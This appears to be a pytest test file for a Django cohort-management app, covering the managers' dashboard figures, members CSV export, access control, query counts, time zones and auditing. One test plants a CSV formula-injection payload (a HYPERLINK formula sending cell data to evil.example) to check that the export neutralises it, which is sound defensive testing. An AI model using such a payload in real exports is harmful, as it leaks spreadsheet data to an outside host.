import csv
import datetime
import io
from pathlib import Path

import pytest
import time_machine
from django.contrib.staticfiles import finders
from django.urls import reverse

from cohorts.dates import program_today
from cohorts.models import MemberProfile, Membership
from cohorts.services import initiative_create, membership_status_change, milestone_create, milestone_set_done
from tests.factories import UserFactory, accept

pytestmark = pytest.mark.calendar


@time_machine.travel(datetime.datetime(2026, 6, 1, 12, tzinfo=datetime.UTC))
def test_dashboard_figures(client, cohort, north, member, second_member, manager):
    membership_status_change(membership=Membership.objects.get(person=second_member), status="paused",
                             reason="Leave", by=manager)  # fmt: skip
    initiative = initiative_create(cohort=cohort, by=member, title="A", what="W", status="running")
    initiative_create(cohort=cohort, by=member, title="B", what="W", status="idea")
    done_due = milestone_create(initiative=initiative, title="1", due_on=datetime.date(2026, 3, 1), by=member)
    milestone_create(initiative=initiative, title="2", due_on=datetime.date(2026, 4, 1), by=member)  # overdue
    later = milestone_create(initiative=initiative, title="3", due_on=datetime.date(2026, 9, 1), by=member)
    milestone_set_done(milestone=done_due, done=True, by=member)
    milestone_set_done(milestone=later, done=True, by=member)

    client.force_login(manager)
    figures = client.get(reverse("cohorts:dashboard", args=[cohort.slug])).context["figures"]

    by_status = {status: n for status, _label, n in figures["by_status"]}
    assert by_status == {"active": 1, "paused": 1, "graduated": 0, "withdrawn": 0}
    assert figures["by_region"] == [("North", 1), ("", 1)]
    assert figures["milestones"] == {"total": 3, "done": 2, "due": 2, "done_of_due": 1, "overdue": 1}
    initiatives = {status: n for status, _label, n in figures["initiatives"]}
    assert (initiatives["running"], initiatives["idea"], initiatives["done"]) == (1, 1, 0)


def test_dashboard_page_has_charts_from_the_vendored_library(client, cohort, member, manager):
    client.force_login(manager)
    page = client.get(reverse("cohorts:dashboard", args=[cohort.slug])).text
    assert "vendor/chartjs/chart.umd.min.js" in page
    assert 'id="chart-data"' in page
    assert "cdn" not in page.lower()


def test_members_csv(client, cohort, north, member, manager):
    client.force_login(manager)
    response = client.get(reverse("cohorts:members_csv", args=[cohort.slug]))
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(rows) == 2
    assert rows[1][:4] == [member.name, member.email, "active", "North"]
    assert rows[1][8] == "Mira Studio"


@pytest.mark.parametrize("persona", ["member", "mentor"])
def test_dashboard_and_csv_are_for_managers(client, cohort, persona, request):
    client.force_login(request.getfixturevalue(persona))
    assert client.get(reverse("cohorts:dashboard", args=[cohort.slug])).status_code == 403
    assert client.get(reverse("cohorts:members_csv", args=[cohort.slug])).status_code == 403


def test_a_manager_of_another_program_sees_no_dashboard_of_this_cohort(client, cohort, other_cohort):
    """The Program manager group says what someone does, never where: a manager of another program, in the
    group and staff, gets a 404 for this cohort's dashboard and members CSV, as an outsider would."""
    other_manager = UserFactory(roles=["Program manager"], is_staff=True)
    other_cohort.program.managers.add(other_manager)
    client.force_login(other_manager)
    assert client.get(reverse("cohorts:dashboard", args=[cohort.slug])).status_code == 404
    assert client.get(reverse("cohorts:members_csv", args=[cohort.slug])).status_code == 404
    assert client.get(reverse("cohorts:dashboard", args=[other_cohort.slug])).status_code == 200


def test_a_superuser_sees_every_cohorts_dashboard(client, cohort):
    client.force_login(UserFactory(is_superuser=True, is_staff=True))
    assert client.get(reverse("cohorts:dashboard", args=[cohort.slug])).status_code == 200


@pytest.mark.parametrize("size", [1, 20])
def test_dashboard_runs_a_fixed_number_of_queries(client, cohort, north, manager, django_assert_num_queries, size):
    for number in range(size):
        person = UserFactory()
        accept(cohort, person, region=north, venture_name=f"Venture {number}")
        initiative = initiative_create(cohort=cohort, by=person, title=f"Initiative {number}", what="W")
        milestone_create(initiative=initiative, title="M", due_on=datetime.date(2026, 3, 1), by=person)
    client.force_login(manager)
    # 1 session, 2 user, 3 groups, 4 the cohort with the viewer's roles, 5 members by status, 6 members by region,
    # 7 milestone figures, 8 initiatives by status, 9 the member table with person, profile and region,
    # 10 their ventures (prefetch), 11 the pending member invitations, and the panels other apps add (mentoring:
    # 12 sessions held this month, 13 mentees without a recent session, 14 unlogged sessions).
    with django_assert_num_queries(14):
        response = client.get(reverse("cohorts:dashboard", args=[cohort.slug]))
    assert response.context["figures"]["member_count"] == size


@pytest.mark.parametrize("size", [1, 20])
def test_members_csv_runs_a_fixed_number_of_queries(client, cohort, manager, django_assert_num_queries, size):
    for number in range(size):
        accept(cohort, venture_name=f"Venture {number}")
    client.force_login(manager)
    # 1 session, 2 user, 3 the cohort with the viewer's roles (they manage its program, so their groups are not
    # read: no page template, no navigation), 4 members with person, profile and region, 5 their ventures, 6 the
    # download's audit event.
    with django_assert_num_queries(6):
        response = client.get(reverse("cohorts:members_csv", args=[cohort.slug]))
    assert response.content.decode("utf-8-sig").count("\n") == size + 1


def test_members_csv_neutralises_cells_a_spreadsheet_would_run(client, cohort, member, manager):
    member.name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    member.save(update_fields=["name"])
    MemberProfile.objects.create(user=member, contact_phone="+972 50 123 4567", contact_consent=True)
    membership_status_change(membership=Membership.objects.get(person=member), status="paused",
                             reason="@SUM(1+1)", by=manager)  # fmt: skip
    client.force_login(manager)
    response = client.get(reverse("cohorts:members_csv", args=[cohort.slug]))
    row = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[1]
    assert row[0] == "'" + member.name
    assert row[1] == member.email
    assert row[6] == "'@SUM(1+1)"
    assert row[9] == "'+972 50 123 4567"


# 22:30 UTC on 1 June is already 2 June in Jerusalem (the program's zone), still 1 June in Honolulu.
@time_machine.travel(datetime.datetime(2026, 6, 1, 22, 30, tzinfo=datetime.UTC))
@pytest.mark.parametrize("viewer_zone", ["Pacific/Honolulu", "Asia/Jerusalem", "Pacific/Kiritimati", "UTC"])
def test_dashboard_dates_are_the_programs_whatever_the_viewers_time_zone(client, cohort, member, manager, viewer_zone):
    cohort.program.time_zone = "Asia/Jerusalem"
    cohort.program.save(update_fields=["time_zone"])
    initiative = initiative_create(cohort=cohort, by=member, title="A", what="W")
    milestone_create(initiative=initiative, title="Due on the 1st", due_on=datetime.date(2026, 6, 1), by=member)
    manager.time_zone = viewer_zone
    manager.save(update_fields=["time_zone"])
    client.force_login(manager)
    figures = client.get(reverse("cohorts:dashboard", args=[cohort.slug])).context["figures"]
    assert (figures["milestones"]["due"], figures["milestones"]["overdue"]) == (1, 1)


@time_machine.travel(datetime.datetime(2026, 6, 1, 22, 30, tzinfo=datetime.UTC))
def test_service_dates_are_the_programs_today(cohort, member, manager):
    from django.utils import timezone

    cohort.program.time_zone = "Asia/Jerusalem"
    cohort.program.save(update_fields=["time_zone"])
    assert program_today(cohort.program) == datetime.date(2026, 6, 2)
    initiative = initiative_create(cohort=cohort, by=member, title="A", what="W")
    milestone = milestone_create(initiative=initiative, title="M", due_on=datetime.date(2026, 6, 1), by=member)
    with timezone.override("Pacific/Honolulu"):  # a manager far away, acting on the program's day
        assert milestone_set_done(milestone=milestone, done=True, by=member).done_on == datetime.date(2026, 6, 2)
        changed = membership_status_change(membership=Membership.objects.get(person=member), status="graduated",
                                           reason="", by=manager)  # fmt: skip
    assert changed.ended_on == datetime.date(2026, 6, 2)


def test_members_csv_is_audited_about_the_cohort(client, cohort, member, manager, monkeypatch):
    recorded = []
    monkeypatch.setattr("incubator.exports.audit_record", lambda **entry: recorded.append(entry))
    client.force_login(manager)
    client.get(reverse("cohorts:members_csv", args=[cohort.slug]))
    assert recorded == [{"actor": manager, "action": "export.csv", "obj": cohort, "note": "members (1)"}]


def test_the_dashboard_explains_more_members_than_places(client, cohort, member, manager):
    cohort.capacity = 2
    cohort.save()
    people = [accept(cohort, UserFactory()) for _ in range(2)]
    membership_status_change(membership=people[0], status="withdrawn", reason="Moved away", by=manager)
    client.force_login(manager)
    html = client.get(reverse("cohorts:dashboard", args=[cohort.slug])).content.decode()
    assert 'data-testid="members-over-places"' in html
    assert "The count includes 1 member who withdrew." in html
    assert Membership.objects.filter(cohort=cohort).count() == 3


def test_charts_are_mirrored_right_to_left(client, cohort, manager):
    client.force_login(manager)
    html = client.get(f"/he{reverse('cohorts:dashboard', args=[cohort.slug])}").content.decode()
    assert 'dir="rtl"' in html
    script = Path(finders.find("js/cohort_dashboard.js")).read_text(encoding="utf-8")
    assert 'position: rtl ? "right" : "left"' in script and "reverse: rtl" in script
